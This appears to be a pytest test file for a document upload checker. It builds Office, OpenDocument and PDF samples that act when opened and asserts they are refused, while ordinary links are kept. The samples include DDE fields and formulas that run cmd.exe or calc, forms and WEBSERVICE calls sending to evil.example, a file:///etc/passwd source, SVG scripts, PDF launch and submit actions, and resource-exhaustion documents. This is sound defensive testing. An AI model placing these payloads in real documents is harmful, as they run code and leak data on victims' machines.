"""Evidence that would fetch, send or run something when it is opened does not come in; a link to press stays."""

import io
import zipfile

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name

from tracker.uploads import cleaning, office, storage
from tracker.uploads.archives import Refused

from .costs import cost_of
from .office import SHEET, TABLE, archive, ooxml, opendocument, pdf

LEADS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind, target="https://evil.example/x", outside=True, type_=None, name="word/_rels/document.xml.rels"):
    """A document with one relation."""
    mode = ' TargetMode="External"' if outside else ""
    relation = f'<Relationships><Relationship Id="a" Type="{LEADS}/{kind}" Target="{target}"{mode}/></Relationships>'
    return ooxml(type_, **{name: relation}) if type_ else ooxml(**{name: relation})


def worded(body, main="word/document.xml"):
    return ooxml(**{"word/header1.xml": body}) if main.startswith("word") else ooxml(SHEET, **{main: body})


def instruction(*runs):
    """A field of a document whose instruction stands in several runs."""
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    text = "".join(f"<w:instrText>{run}</w:instrText>" for run in runs)
    return worded(f'<w:hdr xmlns:w="w">{begin}{text}{end}</w:hdr>')


def opened(content, **more):
    return opendocument(**{"styles.xml": f'<x xmlns:d="draw" xmlns:l="xlink" xmlns:t="text">{content}</x>'} | more)


ACTS = {
    "a template from elsewhere": related("attachedTemplate"),
    "a template from elsewhere in UTF-16": ooxml(
        **{
            "word/_rels/settings.xml.rels": f'<R><A Type="{LEADS}/attachedTemplate" TargetMode="External"/></R>'.encode(
                "utf-16"
            )
        }
    ),
    "an object from elsewhere": related("oleObject"),
    "a picture from elsewhere": related("image"),
    "a frame from elsewhere": related("frame"),
    "a part that is another document": related("aFChunk", "x.html", outside=False),
    "a link to another workbook": related(
        "externalLink", "externalLinks/externalLink1.xml", False, SHEET, "xl/_rels/workbook.xml.rels"
    ),
    "a data connection": related("connections", "connections.xml", False, SHEET, "xl/_rels/workbook.xml.rels"),
    "a query": related("queryTable", "q.xml", False, SHEET, "xl/worksheets/_rels/s.xml.rels"),
    "an add-in from the web": related("webextensiontaskpanes", "x.xml", False, name="_rels/.rels"),
    "a picture of the web in a cell": related(
        "rdRichValueWebImage", "x.xml", False, SHEET, "xl/_rels/workbook.xml.rels"
    ),
    "a field that runs a program": instruction(" DD", "EAUTO c:\\\\windows\\\\cmd.exe "),
    "a field that fetches a picture": instruction('INCLUDEPICTURE "https://evil.example/x.png"'),
    "a field spelt by numbers": instruction("QUOTE 68 68 69"),
    "a simple field": worded('<w:hdr xmlns:w="w"><w:fldSimple w:instr=" LINK Excel.Sheet x "/></w:hdr>'),
    "a letter to many": worded('<w:settings xmlns:w="w"><w:mailMerge/></w:settings>'),
    "an old drawing with a picture from elsewhere": worded(
        '<v:shape xmlns:v="v"><v:imagedata src="\\\\evil\\x"/></v:shape>'
    ),
    "a formula that asks the web": worded(
        '<worksheet><f>WEB<!-- -->SERVICE("https://evil.example")</f></worksheet>', "xl/s.xml"
    ),
    "a formula that shows a picture": worded("<worksheet><f>_xlfn.IM&#65;GE(A1)</f></worksheet>", "xl/s.xml"),
    "a formula that runs a program": worded("<worksheet><f>cmd|'/c calc'!A0</f></worksheet>", "xl/s.xml"),
    "a drawing with a script": ooxml(**{"word/media/a.svg": '<svg xmlns="s"><script>x()</script></svg>'}),
    "a drawing that acts": ooxml(**{"word/media/a.svg": '<svg xmlns="s" onload="x()"/>'}),
    "a drawing that fetches": ooxml(
        **{"word/media/a.svg": '<svg xmlns="s"><image href="https://evil.example/"/></svg>'}
    ),
    "a drawing whose style fetches": ooxml(
        **{"word/media/a.svg": '<svg><style>@import "//evil.example"</style></svg>'}
    ),
    "a page in a document": ooxml(**{"word/page.xml": "<html/>"}),
    "a picture from elsewhere in a text": opened('<d:image l:href="https://evil.example/x.png"/>'),
    "a picture from beside the text": opened('<d:image l:href="../x.png"/>'),
    "a section from elsewhere": opened('<t:section-source l:href="file:///etc/passwd"/>'),
    "a frame in a text": opened('<d:floating-frame l:href="x"/>'),
    "a form that sends": opened('<form l:href="https://evil.example/"/>'),
    "a program's data": opened('<t:dde-connection-decl office-dde-topic="x"/>'),
    "a listener": opened('<event-listener l:href="vnd.sun.star.script:x"/>'),
    "a formula of a table": opendocument(
        TABLE, **{"styles.xml": '<x formula="of:=WEBSERVICE(&quot;https://evil.example&quot;)"/>'}
    ),
    "a table from elsewhere": opened('<table-source l:href="x.ods"/>'),
}


@pytest.mark.parametrize("what", ACTS)
def test_a_document_that_acts_when_it_is_opened_is_refused(what):
    with pytest.raises(Refused) as reason:
        office.document(ACTS[what])
    assert str(reason.value) == ("odd" if "UTF-16" in what else "acts")


@pytest.mark.parametrize(
    "target", ["file:///c:/calc.exe", "\\\\evil\\share", "ms-msdt:/id", "javascript:x()", "//evil/x"]
)
def test_a_link_into_a_computer_is_refused(target):
    for content in (related("hyperlink", target), opened(f'<t:a l:href="{target}">x</t:a>')):
        with pytest.raises(Refused, match="leads"):
            office.document(content)


@pytest.mark.parametrize(
    "content",
    [
        related("hyperlink"),
        related("hyperlink", "mailto:office@vellmark.example"),
        related("image", "media/image1.png", outside=False),
        instruction(' HYPERLINK "https://vellmark.example" '),
        instruction(" PAGE ", "\\* MERGEFORMAT"),
        worded("<worksheet><f>SUM(A1:B2)</f><v>recall (x)</v></worksheet>", "xl/s.xml"),
        ooxml(**{"word/media/a.svg": '<svg><path fill="url(#a)"/><image href="data:image/png;base64,AA"/></svg>'}),
        opened('<d:image l:href="Pictures/a.png"/><t:a l:href="https://vellmark.example/">x</t:a>'),
        opened("", **{"meta.xml": '<m xmlns:l="l"><template l:href="file:///home/jorun/letter.ott"/></m>'}),
    ],
)
def test_a_document_with_links_to_press_and_parts_of_its_own_comes_in(content):
    _type, stored, _words = office.document(content)
    with zipfile.ZipFile(io.BytesIO(stored)) as new, zipfile.ZipFile(io.BytesIO(content)) as old:
        assert new.namelist() == old.namelist()
        assert b"jorun" not in b"".join(map(new.read, new.namelist()))


def action(where="OpenAction", **given):
    """A PDF with an action."""

    def change(document):
        each = Dictionary(**given)
        if where == "OpenAction":
            document.Root.OpenAction = each
        else:
            mark = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=each)
            document.pages[0].obj.Annots = Array([document.make_indirect(mark)])

    return pdf(change)


def outside_stream(document):
    stream = document.make_stream(b"")
    stream.F = "https://evil.example/x"
    document.Root.Other = stream


PDFS = {
    "sends a form": action(S=Name.SubmitForm, F="https://evil.example/"),
    "sends a form by a press": action("A", S=Name.SubmitForm, F="https://evil.example/"),
    "fetches data": action(S=Name.ImportData, F="x"),
    "opens another file": action("A", S=Name.GoToR, F="\\\\evil\\share\\x.pdf"),
    "opens a file in it": action("A", S=Name.GoToE),
    "plays a film": action("A", S=Name.Rendition),
    "leads into a computer": action("A", S=Name.URI, URI="file:///c:/calc.exe"),
    "leads to a share": action("A", S=Name.URI, URI="\\\\evil\\x"),
    "leads elsewhere after a link": action("A", S=Name.URI, URI="https://a.example", Next=Dictionary(S=Name.Launch)),
    "has its content elsewhere": pdf(outside_stream),
    "names an address as a file": action("A", S=Name.Thread, F=Dictionary(FS=Name.URL, F="https://evil.example/")),
}


@pytest.mark.parametrize("what", PDFS)
def test_a_pdf_that_acts_is_refused(what):
    with pytest.raises(Refused, match="active"):
        cleaning.pdf(PDFS[what])


def test_a_pdf_keeps_its_links_and_loses_what_opens_by_itself():
    stored, _words = cleaning.pdf(action("A", S=Name.URI, URI="https://vellmark.example"))
    with pikepdf.open(io.BytesIO(stored)) as document:
        assert str(document.pages[0].obj.Annots[0].A.URI) == "https://vellmark.example"
    stored, words = cleaning.pdf(action(S=Name.URI, URI="https://vellmark.example"))
    assert words == {"actions"}
    assert b"vellmark" not in stored


HOSTILE = {
    "elements": lambda: ooxml(**{"word/a.xml": "<a/>" * 5_000_000}),
    "elements in one another": lambda: ooxml(**{"word/a.xml": "<a>" * 5_000_000}),
    "attributes": lambda: ooxml(**{"word/a.xml": "<a " + " ".join(f'a{n}=""' for n in range(500_000)) + "/>"}),
    "bytes": lambda: ooxml(**{"word/a.xml": b" " * 65 * 1024 * 1024}),
    "pictures": lambda: ooxml(**{f"word/media/{n}.bin": b"0" * 3_000_000 for n in range(23)}),
    "parts": lambda: ooxml(**{f"word/{n}": "" for n in range(20_000)}),
    "laughs": lambda: ooxml(**{"word/a.xml": '<!DOCTYPE a [<!ENTITY a "aa">]><a>&a;</a>'}),
    "fields": lambda: worded("<hdr>" + '<a instr="x "/>' * 1_400_000),
}


@pytest.mark.slow
@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_document_gets_a_sentence_soon_and_for_little_memory(what):
    content = HOSTILE[what]()
    cost = cost_of(lambda: office.document(content))
    assert cost.outcome.startswith("Refused("), cost
    assert (cost.seconds < 8, cost.megabytes < 300) == (True, True), cost


def test_the_reason_is_a_sentence_for_whoever_sent_it():
    for content, words in (
        (ACTS["a frame in a text"], "fetches, sends or runs"),
        (archive({"a": "b"}), "It is an archive"),
    ):
        with pytest.raises(ValidationError, match=words):
            storage.checked(SimpleUploadedFile("a.docx", content))
